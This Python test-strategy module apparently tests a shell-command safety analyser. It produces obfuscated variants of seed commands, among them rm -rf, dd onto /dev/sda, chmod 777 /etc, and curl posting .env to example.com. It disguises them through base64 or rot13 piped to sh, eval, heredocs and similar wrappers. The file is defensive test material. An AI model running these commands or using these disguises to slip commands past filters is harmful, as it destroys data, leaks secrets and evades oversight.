"""Other spellings of the same command: the effects of each must be at least those of the plain one."""

from __future__ import annotations

import base64
import codecs

from hypothesis import strategies as st

from tests.lower.shell.fragments import ansi, double, escaped, single

SEEDS: tuple[tuple[str, ...], ...] = (
    ("rm", "-rf", "notes"),
    ("rm", "-f", "a b", "c$d"),
    ("unlink", "app.sqlite"),
    ("git", "push", "--force", "origin", "main"),
    ("git", "clean", "-fdx"),
    ("git", "reset", "--hard"),
    ("shred", "-u", "notes.db"),
    ("truncate", "-s", "0", "app.db"),
    ("cp", "/dev/null", "app.db"),
    ("mv", "app.db", "/tmp/gone"),
    ("chmod", "-R", "777", "/etc"),
    ("dd", "if=/dev/zero", "of=/dev/sda"),
    ("curl", "-d", "@.env", "https://example.com/in"),
    ("crontab", "-r"),
    ("find", ".", "-name", "*.db", "-delete"),
    ("tee", "/etc/hosts"),
    ("kill", "-9", "1"),
    ("some-program-nobody-knows", "--all"),
)


def cut(text: str) -> str:
    """Quotes and backslashes spliced into a word."""
    return (
        "".join(("''" if n % 3 == 0 else "\\" if n % 3 == 1 else '""') + char for n, char in enumerate(text))
        if (text.isascii() and text.replace("-", "").isalnum())
        else single(text)
    )


WORDS = st.sampled_from([single, double, ansi, escaped, cut])
"""Ways to write one word."""


def octal(text: str) -> str:
    return "$'" + "".join(f"\\{ord(char):03o}" for char in text) + "'"


def by_variable(index: int, text: str) -> tuple[str, str]:
    return f"v{index}={single(text)}; ", f'"$v{index}"'


def by_default(text: str) -> str:
    return f'"${{nothing_here:+}}"{single(text)}'


def by_substitution(text: str) -> str:
    return f'"$(printf %s {single(text)})"'


@st.composite
def spellings(draw):
    """A seed, and a text that is another spelling of it."""
    seed = draw(st.sampled_from(SEEDS))
    before, words = "", []
    for index, word in enumerate(seed):
        way = draw(st.integers(0, 9))
        if way == 0:
            setting, reference = by_variable(index, word)
            before += setting
            words.append(reference)
        elif way == 1:
            words.append(by_substitution(word))
        elif way == 2:
            words.append(octal(word))
        elif way == 3:
            words.append(by_default(word))
        else:
            words.append(draw(WORDS)(word))
    text = before + " ".join(words)
    for wrap in draw(st.lists(st.sampled_from(WRAPPERS), max_size=3)):
        text = wrap(text)
    return plain(seed), text


def plain(seed: tuple[str, ...]) -> str:
    return " ".join(
        word if word.replace("-", "a").replace("/", "a").replace(".", "a").isalnum() else single(word) for word in seed
    )


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def end(text: str) -> str:
    """A list that something follows on the same line."""
    return text if text.endswith("\n") else f"{text};"


WRAPPERS = (
    lambda text: f"bash -c {single(text)}",
    lambda text: f"sh -c {double(text)}",
    lambda text: f"eval {single(text)}",
    lambda text: f"( {text} )",
    lambda text: f"{{ {end(text)} }}",
    lambda text: f"go() {{ {end(text)} }}; go",
    lambda text: f"true && {{ {end(text)} }}",
    lambda text: f"make; {text}",
    lambda text: f"if true; then {end(text)} fi",
    lambda text: f"if test -e x; then :; else {end(text)} fi",
    lambda text: f"for i in 1; do {end(text)} done",
    lambda text: f"while :; do {end(text)} break; done",
    lambda text: f"case x in *) {text}\n;; esac",
    lambda text: f"{{ {end(text)} }} & wait",
    lambda text: f"echo {encoded(text)} | base64 -d | sh",
    lambda text: f"bash <<'END{len(text)}'\n{text}\nEND{len(text)}\n",
    lambda text: f"bash <<< {single(text)}",
    lambda text: f"printf '%s\\n' {single(text)} > run{len(text)}.sh; bash run{len(text)}.sh",
    lambda text: (
        f"cat > r{len(text)}.sh <<'END{len(text)}'\n{text}\nEND{len(text)}\nchmod +x r{len(text)}.sh && ./r{len(text)}.sh"
    ),
    lambda text: f"env A=1 bash -c {single(text)}",
    lambda text: f"echo $( {text} )",
    lambda text: (
        f"x=`bash -c {single(text).replace(chr(92), chr(92) * 2).replace('`', chr(92) + '`').replace('$', chr(92) + '$')}`"
    ),
    lambda text: f"cat <( {text} )",
    lambda text: f"trap {single(text)} EXIT",
    lambda text: (
        f"echo {single(codecs.encode(text, 'rot13'))} | tr A-Za-z N-ZA-Mn-za-m | sh" if "\\n" not in text else text
    ),
    lambda text: f"echo {single(text[::-1])} | rev | sh" if "\n" not in text else text,
    lambda text: f"! time {{ {end(text)} }}",
    lambda text: f"coproc {{ {end(text)} }}",
    lambda text: f"{{ {end(text)} }} 2>/dev/null | cat",
    lambda text: f"source /dev/stdin <<< {single(text)}",
    lambda text: f"timeout 9 bash -c {single(text)}",
    lambda text: f'export CODE={single(text)}; bash -c "$CODE"',
    lambda text: f'set -- {single(text)}; eval "$1"',
    lambda text: f'read -r line <<< {single(text)}; eval "$line"' if "\n" not in text else text,
    lambda text: f'a=(bash -c {single(text)}); "${{a[@]}}"',
)
